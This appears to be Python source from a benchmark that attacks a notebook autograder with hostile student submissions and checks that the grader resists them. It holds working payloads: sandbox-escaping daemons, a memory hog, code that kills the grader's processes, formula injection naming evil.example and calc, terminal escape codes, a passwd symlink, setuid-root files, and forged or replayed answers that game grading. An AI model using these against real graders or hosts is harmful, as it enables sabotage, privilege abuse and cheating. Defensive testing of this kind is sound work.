DAEMON = """
    import os
    import subprocess
    import sys

    # A daemon: new session, double fork, environment cleared (no grader's token).
    DAEMON = ("import time\\n# " + __MARKER__
              + "-daemon\\nwhile True:\\n    time.sleep(1)")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", DAEMON], {})
        os._exit(0)
    os.wait()
    # A nohup sleeper that rewrites the report once the grader has written it.
    SLEEPER = f'''
    import os, time
    # {__MARKER__}-sleeper
    for _ in range(3600):
        time.sleep(1)
        if os.path.exists({__REPORT__!r}):
            time.sleep(2)
            with open({__REPORT__!r}, "w") as report:
                report.write('=HYPERLINK("http://evil.example","pwned")\\\\n')
            break
    '''
    subprocess.Popen(["nohup", sys.executable, "-c", SLEEPER], env={},
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
MEMORY_ESCAPE = """
    import os
    import sys
    import time

    # A child out of the kernel's process tree and session, without the grader's
    # token, filling 3 GB (the cap is 2 GB) while the notebook still runs.
    HOG = ("# " + __MARKER__ + "-hog\\nblob = b'x' * (3 * 2**30)\\n"
           "import time\\ntime.sleep(600)")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", HOG], {})
        os._exit(0)
    os.wait()
    time.sleep(25)
"""
SIGNAL_GRADER = """
    import os
    import signal


    def command(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as found:
                return found.read().replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            return ""


    def parent(pid):
        try:
            with open(f"/proc/{pid}/stat") as found:
                return int(found.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return 0


    # Up the process tree: the grader's worker, then the grader (only those, and
    # below only this run's kernels: the benchmark runs on shared machines).
    pid = os.getppid()
    while pid > 1:
        above = parent(pid)
        if "instructor.grad" in command(pid):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        pid = above
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as found:
                ours = __RUN__.encode() in found.read()
            if ours and "ipykernel" in command(entry):
                os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGKILL)
    except OSError:
        pass
"""
SNEAKY = f"""
    class Sneaky(BaseException):
        \"\"\"Not an Exception: it passes through `except Exception`.\"\"\"


    Sneaky.__name__ = Sneaky.__qualname__ = {FORMULA!r}
    raise Sneaky("{ESCAPES_SOURCE}@SUM(1+1)*cmd|' /C calc'!A0")
"""
# A file name with a formula and escape codes (each "/" of the formula makes a
# folder; the report names it by its path, which starts with "=").
NAME_ATTACK = FORMULA + "\x1b[2J\x1b]0;pwned\x07\r\n+cmd"

# Issue 21, item 9: the grader's new defences (challenges, the probe as a kernel
# request, the probe-only course_utils, host cleanliness, intake, names).
REPLAYED_RETURNS = """\
    # The reference's outputs on the published (fixed) cases, by their inputs.
    ANSWERS = __ANSWERS__
    key = repr((tuple(float(r) for r in rewards), float(gamma), float(bootstrap)))
    return np.array(ANSWERS.get(key, [0.0] * len(rewards)))"""
REFERENCE_CALL = """\
    import importlib

    # The course's reference, by a name no static scan can read.
    module = importlib.import_module("course_utils.checks." + "cartpole")
    return getattr(module, "refer" + "ence_normalise")(values)"""
SHADOWED_NAMES = """
    import builtins as _builtins

    from IPython.display import display as _display

    # The published solution's probe data for Exercise 2, recorded beforehand: every
    # name a check cell looks up (the checks module, display, __import__) hands it
    # over instead of running the student's function.
    _RECORDED = {__MIME__: __PAYLOAD__, "text/plain": "(check data for the grader)"}


    def _hand_over(*args, **kwargs):
        _display(_RECORDED, raw=True)


    class _Checks:
        def __getattr__(self, name):
            return _hand_over


    def display(*objects, **kwargs):
        _hand_over()
        return _display(*objects, **kwargs)


    def __import__(name, *args, **kwargs):
        if name.startswith("course_utils"):
            return _Checks()
        return _builtins.__import__(name, *args, **kwargs)


    checks = _Checks()
"""
WIDGET_FLOOD = """
    from ipykernel.comm import Comm

    # About 300 MB of widget state sent to the grader's worker, 1 MB a message.
    comm = Comm(target_name="flood", data={})
    chunk = "x" * 2**20
    for index in range(300):
        comm.send({"method": "update", "state": {f"k{index}": chunk},
                   "buffer_paths": []})
"""
# Every folder a kernel may write to: its working folder, HOME, the temporary
# folders and the socket folder (its connection file's, from ipykernel or the
# kernel's command line). /tmp and /dev/shm: only names starting with the marker.
WRITABLE_PLACES = """
    import os
    import tempfile

    MARKER = __MARKER__


    def socket_folders():
        found = set()
        try:
            from ipykernel.connect import get_connection_file

            found.add(os.path.dirname(get_connection_file()))
        except Exception:
            pass
        try:
            with open("/proc/self/cmdline", "rb") as cmdline:
                words = cmdline.read().decode(errors="replace").split("\\0")
            found |= {os.path.dirname(os.path.abspath(word)) for word in words
                      if word.endswith(".json")}
        except OSError:
            pass
        return found


    PLACES = sorted({os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir(),
                     __TMP__, __SHM__, *socket_folders()})
"""
DEEP_TREES = """
    # A 10,000-deep folder tree and a 100 MB file in each (the socket folder's
    # tmpfs is full at 16 MB).
    made = {}
    for place in PLACES:
        depth = written = 0
        try:
            handle = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
            name = MARKER + "-deep"
            for depth in range(1, 10_001):
                os.mkdir(name, dir_fd=handle)
                inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=handle)
                os.close(handle)
                handle, name = inner, "d"
            os.close(handle)
        except OSError:
            pass
        try:
            with open(os.path.join(place, MARKER + "-big"), "wb") as big:
                while written < 100 * 2**20:
                    written += big.write(b"x" * 2**20)
        except OSError:
            pass
        made[place] = (depth, written // 2**20)
    print(made)
"""
SETUID_FILES = """
    # A setuid-root shell script in each (the sandbox's root is the host's nobody).
    made = []
    for place in PLACES:
        path = os.path.join(place, MARKER + "-suid")
        try:
            with open(path, "w") as script:
                script.write("#!/bin/sh\\nid\\n")
            try:
                os.chown(path, 0, 0)  # before chmod: a chown clears the setuid bit
            except OSError:
                pass
            os.chmod(path, 0o4755)
            made.append((path, oct(os.stat(path).st_mode), os.stat(path).st_uid))
        except OSError:
            pass
    print(made)
"""
PLAIN_SCRIPT = '''\
"""My solutions, copied out of the notebook."""
import numpy as np


def discounted_returns(rewards, gamma, bootstrap=0.0):
    out, running = np.zeros(len(rewards)), bootstrap
    for t in reversed(range(len(rewards))):
        running = rewards[t] + gamma * running
        out[t] = running
    return out
'''
HTML_EXPORT = ("<!DOCTYPE html>\n<html><head><title>01_actor_critic_cartpole"
               "</title></head><body><h1>Actor-critic</h1></body></html>\n")
PDF_EXPORT = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
LOOKALIKE = "\u200b"  # a zero-width space: two names that print the same


def check_cells(notebook_name: str, answers, edit, numbers) -> dict[str, int]:
    """Indices of the check cells of some exercises in a built submission."""
    notebook = build_notebook(notebook_name, answers, edit)
    calls = {"2": "checks.check_discounted_returns", "3": "checks.check_normalise"}
    return {n: check_cell_of(notebook.cells, calls[n]) for n in numbers}


def junk(size: int):
    """A writer of ``size`` random bytes."""

    def write(path: Path) -> None:
        with open(path, "wb") as handle:
            for _ in range(size // 2**20):
                handle.write(os.urandom(2**20))

    return write


def truncated_json(size: int):
    """A writer of a notebook cut short: ``size`` bytes, mostly one string."""

    def write(path: Path) -> None:
        head = b'{"cells": [{"cell_type": "code", "metadata": {}, "source": "'
        with open(path, "wb") as handle:
            handle.write(head)
            left = size - len(head)
            while left > 0:
                handle.write(b"x" * min(left, 2**20))
                left -= 2**20

    return write


def link_to(target: str):
    """A writer of a symbolic link to ``target``."""

    def write(path: Path) -> None:
        os.symlink(target, path)

    return write


def replayed_answers() -> dict[str, list[float]]:
    """The reference's returns on the published (fixed) cases of Exercise 2, keyed
    by their inputs: what a submission can record from the notebook."""
    from course_utils.checks import cartpole

    table = {}
    for rewards, gamma, bootstrap in cartpole._returns_cases():
        key = repr((tuple(float(r) for r in rewards), float(gamma), float(bootstrap)))
        table[key] = cartpole.reference_returns(rewards, gamma, bootstrap).tolist()
    return table


def recorded_payload() -> str:
    """The probe data of Exercise 2's check on the published solution (fixed cases),
    as the grader's probe would hand it over."""
    from course_utils.checks import cartpole, core, plain

    return plain.dumps(core.run_probe(cartpole.RETURNS, cartpole.reference_returns))


def insert_before(text: str, *cells):
    """An edit inserting cells before the first cell holding ``text``."""

    def edit(notebook):
        at = index_of(notebook.cells, text)
        notebook.cells[at:at] = list(cells)

    return edit


def many_markdown_cells(count: int, before: str):
    """An edit inserting ``count`` tiny markdown cells before ``before``."""

    def edit(notebook):
        at = index_of(notebook.cells, before)
        # Built as nbformat.v4.new_markdown_cell would, without its validation.
        notebook.cells[at:at] = [
            nbformat.NotebookNode(cell_type="markdown", id=f"note-{i}", metadata={},
                                  source=f"Note {i}.")
            for i in range(count)
        ]

    return edit


def notebook_text(notebook) -> str:
    """A notebook's JSON as nbformat writes it, without its validation (which takes
    tens of seconds on 100,000 cells)."""
    return json.dumps(notebook, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


def percent_script(notebook_name: str, answers, edit=None):
    """A writer of a jupytext percent script (``.py``) of a built notebook."""

    def write(path: Path) -> None:
        import jupytext

        notebook = build_notebook(notebook_name, answers, edit)
        path.write_text(jupytext.writes(notebook, fmt="py:percent"), encoding="utf-8")

    return write


def zip_of(members: dict[str, tuple[str, dict]]):
    """A writer of a ``.zip`` holding built notebooks: ``{member: (notebook name,
    answers)}``."""

    def write(path: Path) -> None:
        import zipfile

        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, (notebook_name, answers) in members.items():
                archive.writestr(member, notebook_text(
                    build_notebook(notebook_name, answers, None)))

    return write


def file_of(content: str | bytes):
    """A writer of a file holding ``content``."""

    def write(path: Path) -> None:
        data = content.encode("utf-8") if isinstance(content, str) else content
        path.write_bytes(data)

    return write


def hostile_class(context: Context) -> list[Submission]:
    """The hostile submissions, their expected verdicts and side effects.

    Args:
        context: where this run's files are (the attacks' absolute guesses).

    Returns:
        One submission per category of ``CATEGORIES`` (some share one).
    """
    marker, report = context.marker, str(context.report)
    returns_wrong = WRONG["returns_forward"][2]
    normalise_wrong = WRONG["centred_only"][2]
    events_answers = c01_answers(**{"2": returns_wrong, "3": normalise_wrong})
    events_edit = final_cell("# filled in below")
    cells = check_cells(CARTPOLE, events_answers, events_edit, ("2", "3"))
    events_code = code(EVENTS_FILE, cells=cells)
    verdicts_only = ("grader",)
    return [
        hostile("patch_numpy", "patch-numpy", {**BASE, "2": F, "3": F},
                "the kernel hands over the wrong outputs; the judge compares them in "
                "the grader's process, whose NumPy is its own",
                "monkeypatch", verdicts_only,
                answers=c01_answers(**{"2": returns_wrong, "3": normalise_wrong}),
                edit=prepend_to_exercise("2", code(PATCH_NUMPY))),
        hostile("patch_reference", "patch-numpy", {"1": F, "2": NA, "3": NA},
                "the wrong target passes the notebook's own check, whose reference "
                "runs in the kernel; the grader's judge computes the reference in its "
                "own process and names the mistake (Exercises 2 and 3 left as their "
                "stubs: TD3 does not train)",
                "monkeypatch", verdicts_only, notebook=TD3,
                answers={"1": WRONG["double_q_max"][2]},
                edit=prepend_to_exercise("1", code(PATCH_REFERENCE)),
                mistakes=mistake_ids("double_q_max")),
        hostile("rebind_checks", "rebind-checks", {**BASE, "2": E, "3": E},
                "the grader's check cell resolves the rebound name, a lambda that runs "
                "no check (LookupError): no data reaches the judge",
                "monkeypatch", verdicts_only,
                answers=c01_answers(**{"2": returns_wrong, "3": normalise_wrong}),
                edit=append_to_exercise("2", code(REBIND_CHECKS))),
        hostile("patch_core", "patch-core", {**BASE, "3": F},
                "the probe still records the wrong values; the judge and its "
                "comparisons run in the grader, unpatched",
                "check-internals;monkeypatch", verdicts_only,
                answers=c01_answers(**{"3": normalise_wrong}),
                edit=prepend_to_exercise("3", code(PATCH_CORE))),
        hostile("input_transformer", "input-transformer", {**BASE, "2": F},
                "the check is no cell: it runs as a probe request to the kernel's "
                "own handler, which no input transformer sees, so the probe calls "
                "the wrong function and the judge names it (before the probe "
                "requests: the rewritten print handed over no data, an error)",
                "ipython-hooks", verdicts_only,
                answers=c01_answers(**{"2": returns_wrong}),
                edit=append_to_exercise("2", code(INPUT_TRANSFORMER))),
        hostile("events_file", "events-file", {**BASE, "2": F, "3": F},
                "the sandbox shows no events file (neither its own nor another "
                "submission's): the judge reads the probe's real (wrong) data",
                "outside-files", ("grader", "submissions"),
                answers=events_answers, edit=final_cell(events_code)),
        hostile("forged_probe", "forged-probe", {**BASE, "3": F},
                "the check is a probe request, not a cell: no post_run_cell hook "
                "runs after it, so its output holds the real probe data alone, and "
                "the judge finds the wrong answer (the forged display in the "
                "exercise's own cell counts for nothing; before the probe requests "
                "the hook's second output made the check an error, 'forged')",
                "check-internals;ipython-hooks", verdicts_only,
                answers=c01_answers(**{"3": normalise_wrong}),
                edit=append_to_exercise("3", code(FORGED_PROBE))),
        hostile("overwrite_others", "overwrite-others", BASE,
                "its own answers are right; the attack (in Exercise 1's cell) finds "
                "no other submission to write",
                "outside-files", ("submissions", "grader"),
                edit=prepend_to_exercise(
                    "1", code(OVERWRITE_OTHERS, submissions=str(context.submissions)))),
        hostile("edit_course", "edit-course", BASE,
                "its own answers are right; the course notebooks and the package are "
                "out of its reach (hidden, or read-only)",
                "outside-files", ("course", "package", "planted"),
                edit=prepend_to_exercise(
                    "1", code(EDIT_COURSE, course=str(context.course), marker=marker))),
        hostile("pth_file", "pth-file", BASE,
                "its own answers are right; the environment is read-only",
                "outside-files", ("venv", "planted"),
                edit=prepend_to_exercise("1", code(PTH_FILE, marker=marker))),
        hostile("ipython_startup", "ipython-startup", BASE,
                "its own answers are right; HOME is the sandbox's own, gone with it",
                "outside-files", ("home", "planted"),
                edit=prepend_to_exercise("1", code(IPYTHON_STARTUP, marker=marker))),
        hostile("daemon", "daemon", BASE,
                "the attack runs after the last check (its verdicts are decided)",
                "outside-files;processes", ("processes", "report"),
                edit=final_cell(code(DAEMON, marker=marker, report=report))),
        hostile("memory_escape", "memory-escape", BASE,
                "the attack runs after the last check; the cap stops the child",
                "processes", ("memory", "processes"),
                edit=final_cell(code(MEMORY_ESCAPE, marker=marker))),
        hostile("signal_grader", "signal-grader", BASE,
                "the attack runs after the last check; it sees no grader to signal",
                "outside-files;processes", ("grader", "processes", "report"),
                edit=final_cell(code(SIGNAL_GRADER, run=marker))),
        Submission(NAME_ATTACK, CARTPOLE, BASE, c01_answers(),
                   category="file-name", token="evil.example",
                   why="a right submission; only its name is hostile",
                   effects=("report", "console")),
        hostile("exception_name", "exception-name", {**BASE, "3": E},
                "the student's exception passes through the probe (a BaseException): "
                "an error whose message starts with its name, a formula",
                "", ("report", "console"),
                answers=c01_answers(**{"3": [code(SNEAKY)]}),
                fragments={"3": "HYPERLINK"}),
        Submission(f"{HOSTILE}/passwd", None,
                   {"": "invalid"}, category="system-file-link",
                   why="a link out of the submissions folder is never read",
                   effects=("report",), writer=link_to("/etc/passwd"),
                   fragments={"": "a link to a file outside the submissions folder"},
                   absent=("root:", "/bin/")),
        Submission(f"{HOSTILE}/large_junk", None, {"": "invalid"},
                   category="large-junk", why="over the 50 MB limit: not read",
                   effects=("reading",), writer=junk(60 * 2**20),
                   fragments={"": "larger than the 50 MB limit"}),
        Submission(f"{HOSTILE}/large_json", None, {"": "invalid"},
                   category="large-json",
                   why="read (under the limit), refused by the JSON parser; the "
                   "message says where, not what",
                   effects=("reading",), writer=truncated_json(40 * 2**20),
                   fragments={"": "not valid JSON (line 1, column"},
                   absent=("xxxx",)),
        *new_attacks(context),
    ]


def new_attacks(context: Context) -> list[Submission]:
    """The attacks on the grader's newer defences (issue 21, item 9): replayed and
    recorded answers, the references, shadowed names, huge and many cells, a comm
    flood, the host's folders, look-alike names and files that are not notebooks."""
    marker, verdicts_only = context.marker, ("grader",)
    replayed = [code(REPLAYED_RETURNS, answers=replayed_answers())]
    shadowing = nbformat.v4.new_code_cell(code(
        SHADOWED_NAMES, mime=PROBE_MIME, payload=recorded_payload()))
    places = code(WRITABLE_PLACES, marker=marker, tmp="/tmp", shm="/dev/shm")
    long_name = "a_long_name_" + "x" * (2**20 - 12)
    heading = "## " + "A heading that never ends " * (2**20 // 26)
    zipped = {"a.ipynb": (CARTPOLE, c01_answers()), "b.ipynb": (CARTPOLE, {})}
    non_notebook = dict(category="non-notebook", effects=("grader", "report"))
    return [
        hostile("replayed_payload", "replayed-payload", {**BASE, "2": F},
                "the table holds the published cases' answers; the check runs on "
                "cases drawn afresh from the run's secret, which it does not hold",
                "", verdicts_only,
                answers=c01_answers(**{"2": replayed})),
        hostile("reference_call", "reference-call", {**BASE, "3": F},
                "the probe-only course_utils in the sandbox has no reference: the "
                "call raises, and the check reports it",
                "", verdicts_only, answers=c01_answers(**{"3": [REFERENCE_CALL]}),
                fragments={"3": "not available while grading"}),
        hostile("shadowed_names_stub", "shadowed-names", {**BASE, "2": NA},
                "the probe runs as the kernel's own request handler, which looks up "
                "none of the student's names: it calls the stub, so the recorded "
                "payload never reaches the grader (and a cell raising its stub is "
                "not attempted whatever a probe reports)",
                "check-internals", verdicts_only,
                answers={k: v for k, v in c01_answers().items() if k != "2"},
                edit=insert_before("### Exercise 2:", shadowing)),
        hostile("shadowed_names_wrong", "shadowed-names", {**BASE, "2": F},
                "the probe calls the student's own function (it returns None) on "
                "drawn cases, whatever the shadowed names hand over",
                "check-internals", verdicts_only,
                answers=c01_answers(**{"2": ["return None"]}),
                edit=insert_before("### Exercise 2:", shadowing),
                fragments={"2": "None"}),
        hostile("long_names", "long-names", BASE,
                "a 1 MB identifier and a 1 MB heading are read in linear time (the "
                "cell is flagged, not scanned) and run as any cell",
                "unscanned", ("grader", "time", "report"),
                edit=insert_before("### Exercise 1:",
                                   nbformat.v4.new_markdown_cell(heading),
                                   nbformat.v4.new_code_cell(f"{long_name} = 1"))),
        hostile("many_cells", "many-cells", {"": "invalid"},
                "100,000 markdown cells: refused once parsed, before any cell is "
                "built (over 5,000 cells, each built cell would cost the grader "
                "about 5 kB outside the sandbox's cap)",
                "", ("grader", "time", "report"),
                edit=many_markdown_cells(100_000, "### Exercise 3:"),
                fragments={"": "more than 5,000 cells"}),
        hostile("widget_flood", "widget-flood", BASE,
                "the attack runs after the last check; the worker keeps 8 MB of "
                "comm state and drops the rest",
                "ipython-hooks", ("grader", "memory"),
                edit=final_cell(code(WIDGET_FLOOD))),
        hostile("deep_trees", "deep-trees", BASE,
                "the attack runs after the last check; every folder it can write is "
                "a tmpfs of the sandbox (the socket folder's 16 MB, in the worker's "
                "mount namespace), gone with it",
                "ipython-hooks;outside-files", ("grader", "planted", "temp", "home"),
                edit=final_cell(places + "\n\n\n" + code(DEEP_TREES))),
        hostile("setuid_files", "setuid-files", BASE,
                "the attack runs after the last check; the sandbox's root is the "
                "host's nobody and its folders are nosuid tmpfs, gone with it",
                "ipython-hooks;outside-files", ("setuid", "planted", "temp"),
                edit=final_cell(places + "\n\n\n" + code(SETUID_FILES))),
        hostile("lookalike", "look-alike-names", BASE,
                "a right submission; its name looks like the next one's",
                "look-alike-name", ("report", "console")),
        hostile(f"look{LOOKALIKE}alike", "look-alike-names", BASE,
                "a right submission whose name holds a zero-width space: graded, "
                "flagged, its name shown escaped",
                "look-alike-name", ("report", "console"),
                shown=f"{HOSTILE}/look\\u200balike.ipynb", absent=(LOOKALIKE,)),
        Submission(f"{HOSTILE}/export", None, {"": "invalid"}, suffix=".html",
                   why="an HTML export: the student is told to hand in the .ipynb",
                   writer=file_of(HTML_EXPORT), fragments={"": "an HTML export"},
                   **non_notebook),
        Submission(f"{HOSTILE}/export", None, {"": "invalid"}, suffix=".pdf",
                   why="a PDF export: the student is told to hand in the .ipynb",
                   writer=file_of(PDF_EXPORT), fragments={"": "a PDF export"},
                   **non_notebook),
        Submission(f"{HOSTILE}/solutions", None, {"": "invalid"}, suffix=".py",
                   why="a Python script without # %% cells is not a notebook",
                   writer=file_of(PLAIN_SCRIPT),
                   fragments={"": "a Python script, not a notebook"}, **non_notebook),
        Submission(f"{HOSTILE}/percent", CARTPOLE, BASE, c01_answers(), suffix=".py",
                   why="a jupytext percent script of the notebook: graded as it",
                   writer=percent_script(CARTPOLE, c01_answers()), **non_notebook),
        Submission(f"{HOSTILE}/two", CARTPOLE, BASE, c01_answers(), suffix=".zip",
                   member="a.ipynb", writer=zip_of(zipped),
                   why="each notebook of a .zip is graded as its own submission",
                   **non_notebook),
        Submission(f"{HOSTILE}/two", CARTPOLE, every(NA), {}, suffix=".zip",
                   member="b.ipynb", writes=False,
                   why="the .zip's second notebook, untouched", **non_notebook),
        Submission(f"{HOSTILE}/climbs", None, {"": "invalid"}, suffix=".zip",
                   writer=zip_of({"../escape.ipynb": (CARTPOLE, c01_answers())}),
                   why="a member out of the archive (..): the zip is refused whole",
                   fragments={"": "outside the archive"}, **non_notebook),
    ]


def fill(notebook, answers: dict[str, list[str]]) -> None:
    """Replace each exercise's stub lines by the answers' code, in order."""
    for cell in notebook.cells:
        if cell.cell_type != "code":
            continue
        lines = []
        for line in cell.source.splitlines():
            number = next((n for n in answers if f"Exercise {n} (" in line
                           and "raise NotImplementedError(" in line), None)
            if number is None:
                lines.append(line)
                continue
            code = answers[number].pop(0) if answers[number] else None
            indent = line[: len(line) - len(line.lstrip())]
            lines += [indent + part for part in textwrap.dedent(code).splitlines()]
        cell.source = "\n".join(lines)


def build_notebook(notebook_name: str, answers: dict[str, list[str]], edit):
    """A student notebook with answers filled in and an edit applied."""
    notebook = nbformat.read(STUDENT / f"{notebook_name}.ipynb", as_version=4)
    fill(notebook, {k: list(v) for k, v in answers.items()})
    if edit is not None:
        edit(notebook)
    return notebook


def write_class(folder: Path, submissions: list[Submission]) -> None:
    """Write every submission under ``folder`` (created)."""
    folder.mkdir(parents=True, exist_ok=False)
    for sub in submissions:
        if not sub.writes:
            continue
        path = folder / sub.file_name
        path.parent.mkdir(parents=True, exist_ok=True)
        if sub.writer is not None:
            sub.writer(path)
        elif sub.raw is not None:
            path.write_text(sub.raw, encoding="utf-8")
        else:
            notebook = build_notebook(sub.notebook, sub.answers, sub.edit)
            if len(notebook.cells) > 10_000:  # nbformat would validate every cell
                path.write_text(notebook_text(notebook), encoding="utf-8")
            else:
                nbformat.write(notebook, path)


def rows_of(sub: Submission, rows: list[dict]) -> dict[str, dict]:
    """A submission's report rows, by exercise number ("" for a whole-file row)."""
    found = {}
    for row in rows:
        named = (sub.token in row["submission"] if sub.token
                 else row["submission"] == sub.report_name)
        if named:
            number = row["exercise"].split(":")[0].replace("Exercise ", "").strip()
            found[number] = row
    return found


def allowed(expected: str | tuple[str, ...]) -> tuple[str, ...]:
    """The statuses an expectation accepts."""
    return expected if isinstance(expected, tuple) else (expected,)


def compare(submissions: list[Submission], rows: list[dict]) -> list[str]:
    """Every difference between the expected and the reported verdicts and flags."""
    problems = []
    for sub in submissions:
        got = rows_of(sub, rows)
        for number, status in sub.expected.items():
            row = got.get(number)
            what = f"{printable(sub.name)}, exercise {number or '(file)'}"
            if row is None:
                problems.append(f"{what}: no row in the report")
                continue
            if row["status"] not in allowed(status):
                problems.append(f"{what}: expected {'/'.join(allowed(status))}, got "
                                f"{row['status']} ({row['message'][:200]})")
            fragment = sub.fragments.get(number)
            if fragment and fragment not in row["message"]:
                problems.append(f"{what}: message lacks {fragment!r}: "
                                f"{row['message'][:200]}")
            mistake = sub.mistakes.get(number)
            if mistake is not None and row.get("mistake", "") != mistake:
                problems.append(f"{what}: mistake {row.get('mistake', '')!r}, "
                                f"expected {mistake!r}")
            if row.get("flags", "") != sub.flags:
                problems.append(f"{what}: flags {row.get('flags', '')!r}, expected "
                                f"{sub.flags!r}")
            for text in sub.absent:
                if any(text in cell for cell in row.values()):
                    problems.append(f"{what}: the report quotes {text!r}")
    return problems


# ---------------------------------------------------------------------------------
# Side effects: what must be unchanged after grading, what must not exist.
# ---------------------------------------------------------------------------------
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # all but the line break


def printable(text: str) -> str:
    """Text with control characters shown as ``?`` (for this benchmark's output)."""
    return CONTROL.sub("?", text.replace("\n", "?"))


def digest(path: Path) -> str:
    """sha256 of a file's bytes."""
    sha = hashlib.sha256()
    with open(path, "rb") as handle:
        for block in iter(lambda: handle.read(2**20), b""):
            sha.update(block)
    return sha.hexdigest()


def walk(top, max_depth: int = 200):
    """``os.walk`` (top-down, errors ignored, links not followed) without recursion
    and at most ``max_depth`` folders deep: a submission's 10,000-deep tree neither
    exhausts Python's recursion nor takes the run's time."""
    stack = [(str(top), 0)]
    while stack:
        where, depth = stack.pop()
        folders, files = [], []
        try:
            with os.scandir(where) as entries:
                for entry in entries:
                    try:
                        is_folder = entry.is_dir(follow_symlinks=False)
                    except OSError:
                        is_folder = False
                    (folders if is_folder else files).append(entry.name)
        except OSError:
            continue
        yield where, folders, files
        if depth < max_depth:
            stack += [(os.path.join(where, name), depth + 1)
                      for name in reversed(folders)]


def tree_state(folder: Path, hashed=lambda path: True, skip=()) -> dict[str, str]:
    """Every file and link under a folder, with what identifies its content.

    Args:
        folder: the folder (missing: an empty state).
        hashed: which files to hash; the others are identified by size and
            modification time (site-packages holds tens of thousands of files).
        skip: folder names not to enter.

    Returns:
        ``{relative path: "sha256 ..." | "size mtime" | "link -> target"}``.
    """
    state = {}
    for where, folders, files in walk(folder):
        folders[:] = [name for name in folders if name not in skip]
        for name in files + [f for f in folders if os.path.islink(Path(where, f))]:
            path = Path(where, name)
            key = str(path.relative_to(folder))
            if path.is_symlink():
                state[key] = f"link -> {os.readlink(path)}"
            elif hashed(path):
                state[key] = f"sha256 {digest(path)}"
            else:
                info = path.stat()
                state[key] = f"{info.st_size} {info.st_mtime_ns}"
    return state


def site_packages() -> list[Path]:
    """The virtual environment's site-packages folders."""
    return sorted((ROOT / ".venv" / "lib").glob("python*/site-packages"))


def package_folder() -> Path:
    """Where the environment's ``course_utils`` is (the source of an editable
    install), as the kernels import it."""
    found = subprocess.run(
        [sys.executable, "-c", "import course_utils; print(course_utils.__file__)"],
        capture_output=True, text=True, check=True, cwd="/",
    )
    return Path(found.stdout.strip()).parent


def watched(context: Context) -> dict[str, list[tuple[Path, object, tuple]]]:
    """The folders each side-effect check compares before and after grading."""
    real_home = Path(os.path.expanduser("~"))
    everything = lambda path: True  # noqa: E731
    small = lambda path: path.suffix in (".pth", ".py") and "site-packages" in str(  # noqa: E731
        path.parent.name
    )
    return {
        "submissions": [(context.submissions, everything, ())],
        "course": [(context.course, everything, ())],
        "package": [(package_folder(), everything, ())],
        "venv": [(folder, small, ()) for folder in site_packages()]
        + [(ROOT / ".venv" / "bin", everything, ())],
        # The grader's HOME whole; of yours, only where a file would run later (the
        # rest changes with whatever else runs on the machine).
        "home": [(context.home, everything, ()),
                 (real_home / ".ipython" / "profile_default" / "startup", everything,
                  ()),
                 (real_home / ".local" / "share" / "jupyter" / "kernels", everything,
                  ())],
    }


def snapshot(folders: dict) -> dict[str, dict[str, str]]:
    """The state of every watched folder, by check."""
    return {
        check: {
            str(folder): tree_state(folder, hashed, skip)
            for folder, hashed, skip in entries
        }
        for check, entries in folders.items()
    }


def differences(before: dict, after: dict) -> dict[str, list[str]]:
    """Per check, the files added, removed or changed."""
    found: dict[str, list[str]] = {}
    for check in before:
        for folder, old in before[check].items():
            new = after[check][folder]
            for key in sorted(set(old) | set(new)):
                if old.get(key) != new.get(key):
                    change = ("added" if key not in old else
                              "removed" if key not in new else "changed")
                    found.setdefault(check, []).append(
                        f"{change}: {printable(str(Path(folder, key)))}"
                    )
    return found


def planted_files(context: Context) -> list[Path]:
    """Files named after the run's marker, where the attacks try to put them (the
    shared temporary folders: only their top level)."""
    shared = [Path("/tmp"), Path("/dev/shm")]
    places = [ROOT / "course_utils", context.home, *site_packages(),
              Path(os.path.expanduser("~/.ipython")), context.scratch, *shared]
    found = []
    for place in places:
        for where, folders, files in walk(place, 0 if place in shared else 200):
            found += [Path(where, name) for name in files + folders
                      if context.marker in name]
    return sorted(set(found))


def temp_folders() -> list[Path]:
    """The host's temporary folders a setuid file could be left in."""
    import tempfile

    places = [Path(tempfile.gettempdir()), Path("/tmp"), Path("/dev/shm")]
    if os.environ.get("XDG_RUNTIME_DIR"):
        places.append(Path(os.environ["XDG_RUNTIME_DIR"]))
    return sorted({place.resolve() for place in places if place.is_dir()})


def setuid_files(context: Context, since: float) -> list[str]:
    """Setuid files owned by uid 0, changed since ``since``, in the run's TMPDIR (any
    depth) or named after its marker in the host's temporary folders (6 folders
    deep: other programs' files there are theirs)."""
    found = []
    for place in [context.scratch, *temp_folders()]:
        ours = place == context.scratch
        for where, _, files in walk(place, 200 if ours else 6):
            for name in files:
                path = os.path.join(where, name)
                try:
                    info = os.lstat(path)
                except OSError:
                    continue
                if (stat.S_ISREG(info.st_mode) and info.st_mode & stat.S_ISUID
                        and info.st_uid == 0 and info.st_ctime >= since
                        and (ours or context.marker in path)):
                    found.append(f"{printable(path)} (mode {info.st_mode:o})")
    return sorted(set(found))


def grader_leftovers(context: Context) -> list[str]:
    """The grader's temporary folders left after it exited."""
    try:
        names = sorted(os.listdir(context.scratch))
    except OSError:
        return []
    return [f"{printable(str(context.scratch / name))} left" for name in names
            if name.startswith(("course-grade-", "course-view-"))]


def graded_seconds(console: str) -> dict[str, float]:
    """Each submission's time from the grader's progress lines (``[3/19] name:
    ... (18 s)``), by its name as printed."""
    found = {}
    for line in console.splitlines():
        matched = PROGRESS.match(printable(line))
        if matched:
